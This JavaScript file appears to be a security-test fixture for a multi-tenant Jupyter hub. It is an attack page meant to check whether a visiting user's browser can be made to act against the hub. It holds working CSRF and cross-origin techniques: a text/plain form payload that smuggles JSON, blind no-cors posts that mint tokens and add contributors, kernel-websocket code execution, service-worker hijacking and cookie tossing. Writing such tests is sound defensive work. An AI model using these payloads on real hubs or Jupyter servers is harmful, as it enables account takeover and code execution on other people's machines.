// Bob's attack page. It runs in the browser of whoever opens it (a
// contributor of bob's namespace, an administrator) and tries to act as that
// visitor: on the hub's API and pages, on alice's Jupyter server, with a
// service worker, with tossed cookies and with Clear-Site-Data. The test
// hands it every name it needs (hub URL, alice's servers, her kernel id) in
// the query string, so that only the browser's origin rules and spawnhub's
// protections stand in the way. Each attempt is reported in
// window.attack.results as {trick, target, succeeded, detail}: succeeded is
// true when the page saw the attack work, false when it saw it fail, null
// when it cannot see (a no-cors request, a form): the test then checks the
// hub's state itself.
"use strict";

const q = new URLSearchParams(location.search);
const hub = q.get("hub"); // the hub origin
const ns = q.get("ns"); // alice's namespace
const demo = q.get("demo"); // a server of alice's to stop
const kernel = q.get("kernel"); // alice's running kernel
// alice's Jupyter server: on its workspace origin, on the hub origin, and
// asked of bob's own origin (one URL when workspaces share the hub's origin)
const jupyterBases = [...new Set([q.get("alice"), q.get("aliceOnHub"), location.origin + new URL(q.get("alice")).pathname])];
const api = hub + "/api/v1";

function where(base) {
  const origin = new URL(base).origin;
  if (origin === new URL(hub).origin) return "alice's server on the hub origin";
  if (origin === location.origin) return "alice's server through bob's origin";
  return "alice's server on its workspace origin";
}

const results = [];
window.attack = { done: false, origin: location.origin, results };

function report(trick, target, succeeded, detail) {
  succeeded = succeeded === null ? null : !!succeeded;
  results.push({ trick, target, succeeded, detail: String(detail).replace(/\s+/g, " ").slice(0, 300) });
  const li = document.createElement("li");
  li.textContent = `${trick} @ ${target}: ${succeeded} (${detail})`;
  document.getElementById("log").append(li);
}

function within(ms, promise) {
  return Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error("timed out")), ms))]);
}

// attempt runs one trick; fn resolves to [succeeded, detail]. A thrown
// error (refused by the browser or the server) counts as failed.
async function attempt(trick, target, fn) {
  try {
    const [succeeded, detail] = await within(20000, fn());
    report(trick, target, succeeded, detail);
  } catch (e) {
    report(trick, target, false, "refused: " + e);
  }
}

function jsonRequest(method, body) {
  const init = { method, credentials: "include", headers: { Accept: "application/json" } };
  if (body !== undefined) {
    init.headers["Content-Type"] = "application/json";
    init.body = JSON.stringify(body);
  }
  return init;
}

async function readJSON(url, init) {
  const r = await fetch(url, init);
  const text = await r.text();
  let value = null;
  try {
    value = JSON.parse(text);
  } catch (e) {}
  return [r, value, text];
}

// A JSON call the page can read the answer of: the visitor's cookie rides
// along, as on a same-origin page.
async function readable(url, method, body, wanted) {
  const [r, v, text] = await readJSON(url, jsonRequest(method, body));
  return [r.ok && wanted(v), `${r.status} ${text.slice(0, 200)}`];
}

// A "simple" request (no preflight): the page cannot read the answer, but
// the server acts on it unless it checks where the request comes from.
async function blind(url, body) {
  await fetch(url, { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body: JSON.stringify(body) });
  return [null, "sent without preflight; the answer is opaque"];
}

// A classic CSRF form: enctype text/plain posts `name=value`. The name
// opens a JSON string that the value closes, and the key it is in comes
// again later, so the "=" ends up in a value that is overridden.
function formPost(url, firstKey, body) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "csrf" + Math.random().toString(16).slice(2);
    frame.style.display = "none";
    document.body.append(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.action = url;
    form.enctype = "text/plain";
    form.target = frame.name;
    const input = document.createElement("input");
    input.name = `{"${firstKey}":"`;
    input.value = `",` + JSON.stringify(body).slice(1);
    form.append(input);
    document.body.append(form);
    frame.addEventListener("load", () => resolve([null, "form posted into a frame"]));
    setTimeout(() => resolve([null, "form posted; the frame never loaded"]), 8000);
    form.submit();
  });
}

function frameRead(url) {
  return new Promise((resolve, reject) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    frame.addEventListener("load", () => {
      try {
        const doc = frame.contentDocument;
        if (!doc) return reject(new Error("no access to the frame's document"));
        resolve([!doc.querySelector("#username") && doc.body.innerText.length > 0, "read: " + doc.body.innerText.slice(0, 200)]);
      } catch (e) {
        reject(e);
      }
    });
    document.body.append(frame);
  });
}

function stream(url) {
  return new Promise((resolve, reject) => {
    const es = new EventSource(url, { withCredentials: true });
    es.addEventListener("server", (e) => {
      es.close();
      resolve([true, "read: " + e.data.slice(0, 200)]);
    });
    es.onerror = () => {
      es.close();
      reject(new Error("stream refused"));
    };
  });
}

function runCode(url, code) {
  return new Promise((resolve, reject) => {
    const ws = new WebSocket(url);
    const id = "bob-" + Math.random().toString(16).slice(2);
    ws.onopen = () =>
      ws.send(JSON.stringify({
        header: { msg_id: id, username: "bob", session: id, msg_type: "execute_request", version: "5.3", date: new Date().toISOString() },
        parent_header: {}, metadata: {}, channel: "shell",
        content: { code, silent: false, store_history: false, user_expressions: {}, allow_stdin: false },
      }));
    ws.onmessage = (e) => {
      let m;
      try {
        m = JSON.parse(e.data);
      } catch (err) {
        return;
      }
      if (m.parent_header && m.parent_header.msg_id === id && m.header.msg_type === "execute_result") {
        ws.close();
        resolve([true, "the kernel answered " + m.content.data["text/plain"]]);
      }
    };
    ws.onclose = (e) => reject(new Error(`websocket closed (${e.code}) before any answer`));
  });
}

async function whoAmI(wanted) {
  const [r, v] = await readJSON(api + "/me", { credentials: "include" });
  return [wanted(r, v), `the hub answers ${r.status} ${JSON.stringify(v)}`];
}

async function serviceWorker() {
  const reg = await navigator.serviceWorker.register("sw.js", { scope: "/" });
  const sw = reg.installing || reg.waiting || reg.active;
  if (sw.state !== "activated") {
    await new Promise((resolve) => sw.addEventListener("statechange", () => sw.state === "activated" && resolve()));
  }
  return [new URL(reg.scope).pathname === "/", "active with scope " + reg.scope];
}

async function tossFromScript(bob) {
  for (const c of [
    `spawnhub_session=${bob}; path=/api/v1`,
    `spawnhub_session=${bob}; path=/notebook`,
    `spawnhub_session=${bob}; path=/; domain=localhost`,
    `spawnhub_workspace=${bob}; path=/notebook; domain=localhost`,
  ]) {
    document.cookie = c;
  }
  return whoAmI((r, v) => r.ok && v && v.id === "bob");
}

async function main() {
  // Reading what only the visitor may see.
  await attempt("read the API as the visitor", "hub", () => readable(api + "/me", "GET", undefined, (v) => v && v.id && v.id !== "bob"));
  await attempt("read the visitor's tokens", "hub", () => readable(api + "/tokens", "GET", undefined, (v) => v && Array.isArray(v.items)));
  await attempt("read a hub page", "hub", async () => {
    const r = await fetch(hub + "/", { credentials: "include" });
    const text = await r.text();
    return [r.ok && !text.includes('id="username"'), `${r.status} ${text.slice(0, 100)}`];
  });
  await attempt("read a hub page in a frame", "hub", () => frameRead(hub + "/"));
  await attempt("read a progress stream", "hub", () => stream(`${api}/namespaces/${ns}/servers/${demo}/progress`));

  // Minting tokens for bob.
  const token = { name: "bob-was-here", expiresIn: "8760h" };
  await attempt("mint a token", "hub", () => readable(api + "/tokens", "POST", token, (v) => v && v.token));
  await attempt("mint a token (no-cors)", "hub", () => blind(api + "/tokens", token));
  await attempt("mint a token (form)", "hub", () => formPost(api + "/tokens", "name", token));
  await attempt("mint an admin token", "hub", () => readable(api + "/tokens", "POST", { ...token, scopes: ["admin"] }, (v) => v && v.token));

  // Making bob an editor of alice's namespace.
  const bob = { user: "bob", role: "edit" };
  const contributors = `${api}/namespaces/${ns}/contributors`;
  await attempt("add a contributor", "hub", () => readable(contributors, "POST", bob, () => true));
  await attempt("add a contributor (no-cors)", "hub", () => blind(contributors, bob));
  await attempt("add a contributor (form)", "hub", () => formPost(contributors, "user", bob));

  // Running code and writing files in alice's Jupyter.
  const kernels = [kernel];
  let n = 0;
  for (const base of jupyterBases) {
    const target = where(base);
    await attempt("start a kernel", target, async () => {
      const [r, v, text] = await readJSON(base + "api/kernels", jsonRequest("POST", { name: "python3" }));
      if (r.ok && v && v.id) kernels.push(v.id);
      return [r.ok && !!(v && v.id), `${r.status} ${text.slice(0, 200)}`];
    });
    await attempt("start a kernel (no-cors)", target, () => blind(base + "api/kernels", { name: "python3" }));
    await attempt("start a kernel (form)", target, () => formPost(base + "api/kernels", "name", { name: "python3" }));
    await attempt("list files", target, () => readable(base + "api/contents", "GET", undefined, (v) => v && Array.isArray(v.content)));
    await attempt("write a file", target, () =>
      readable(base + `api/contents/bob-put-${++n}.txt`, "PUT", { type: "file", format: "text", content: "bob was here" }, () => true));
    for (const k of [...new Set(kernels)]) {
      const file = `bob-kernel-${++n}.txt`;
      await attempt("run code over a kernel websocket", target, () =>
        runCode(base.replace(/^http/, "ws") + `api/kernels/${k}/channels`, `open(${JSON.stringify(file)}, "w").write("bob was here"); 6*7`));
    }
  }

  // Stopping other people's servers.
  await attempt("stop a server", "hub", () => readable(`${api}/namespaces/${ns}/servers/${demo}/stop`, "POST", undefined, () => true));
  await attempt("stop servers with the admin API", "hub", () => readable(api + "/admin/stop", "POST", { filter: { namespace: ns, kind: "demo" } }, () => true));

  // Taking over the origin's pages and cookies.
  await attempt("register a service worker for /", "own origin", serviceWorker);
  const bobSession = (await (await fetch("bob-session")).text()).trim();
  await attempt("toss cookies with Set-Cookie", "own origin", async () => {
    await fetch("toss");
    const kept = document.cookie.split("; ").filter((c) => c.startsWith("spawnhub_") && c.endsWith("=" + bobSession));
    const [asBob, detail] = await whoAmI((r, v) => r.ok && v && v.id === "bob").catch((e) => [false, "the hub is out of reach: " + e]);
    return [kept.length > 0 || asBob, `cookies set: ${kept.join(", ") || "none"}; ${detail}`];
  });
  await attempt("toss cookies with document.cookie", "own origin", () => tossFromScript(bobSession));
  await attempt("Clear-Site-Data", "own origin", async () => {
    document.cookie = "bob-marker=1; path=/";
    await fetch("clear");
    const cleared = !document.cookie.includes("bob-marker=1");
    const [, detail] = await whoAmI(() => false).catch((e) => [false, "the hub is out of reach: " + e]);
    return [cleared, `the origin's cookies ${cleared ? "were cleared" : "survived"}; ${detail}`];
  });
  window.attack.done = true;
}

main().catch((e) => {
  report("the attack page itself", "own origin", false, "crashed: " + e);
  window.attack.done = true;
});
